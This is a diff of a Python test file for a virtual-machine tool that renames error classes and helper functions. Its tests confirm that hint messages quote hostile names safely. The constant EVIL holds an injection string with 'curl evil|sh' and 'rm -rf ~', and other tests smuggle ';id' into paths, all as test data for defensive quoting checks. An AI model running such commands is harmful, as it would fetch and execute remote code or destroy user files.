@@ -6,9 +6,9 @@ from pathlib import Path
 import pytest
 
 from b2d.drivers.qemu import shared_folders
-from b2d.errors import B2dError, WrongState
+from b2d.errors import B2dError, InvalidStateError
 from b2d.guest.transfer import copy_endpoints, tar_extract
-from b2d.importing.candidates import Original, refuse_unless_off
+from b2d.importing.candidates import ImportCandidate, require_off
 from b2d.models import MachineState
 from b2d.paths import MachinePaths
 from tests.support.serial_peer import guest
@@ -16,11 +16,11 @@ from tests.support.serial_peer import guest
 EVIL = "1;curl evil|sh;x $(id) `id`\nrm -rf ~"
 
 
-def told(folder: Path, *lines: str) -> WrongState:
+def told(folder: Path, *lines: str) -> InvalidStateError:
     paths = MachinePaths(folder)
     answer = [f"{one}\n".encode() for one in (*lines, "folders let-go")]
-    with guest(paths.line_socket, answer), pytest.raises(WrongState) as caught:
-        shared_folders.take(paths, "box")
+    with guest(paths.line_socket, answer), pytest.raises(InvalidStateError) as caught:
+        shared_folders.unmount(paths, "box")
     return caught.value
 
 
@@ -62,18 +62,18 @@ def test_a_line_that_is_none_is_no_bug(tmp_path: Path) -> None:
 
 @pytest.mark.parametrize("state", [MachineState.SAVED, MachineState.RUNNING])
 def test_a_name_out_of_a_settings_file_is_one_word_of_a_command(state: MachineState) -> None:
-    with pytest.raises(WrongState) as caught:
-        refuse_unless_off(Original(EVIL, Path("x.vmdk"), state=state))
+    with pytest.raises(InvalidStateError) as caught:
+        require_off(ImportCandidate(EVIL, Path("x.vmdk"), state=state))
     assert EVIL in shlex.split(caught.value.hint.partition(", then")[0])
 
 
 def test_a_folder_that_is_not_there_is_one_word_of_a_command(tmp_path: Path) -> None:
     with pytest.raises(B2dError) as caught:
-        tar_extract.landing(f"{tmp_path}/a b;id/x", "x", many=False)
+        tar_extract.final_path(f"{tmp_path}/a b;id/x", "x", many=False)
     assert shlex.split(caught.value.hint) == ["mkdir", "-p", f"{tmp_path}/a b;id"]
 
 
 def test_a_path_that_is_no_machine_s_is_one_word() -> None:
     with pytest.raises(B2dError) as caught:
-        copy_endpoints.parse("a b;id:x")
+        copy_endpoints.parse_endpoint("a b;id:x")
     assert shlex.split(caught.value.hint.partition(", if")[0]) == ["./a b;id:x"]
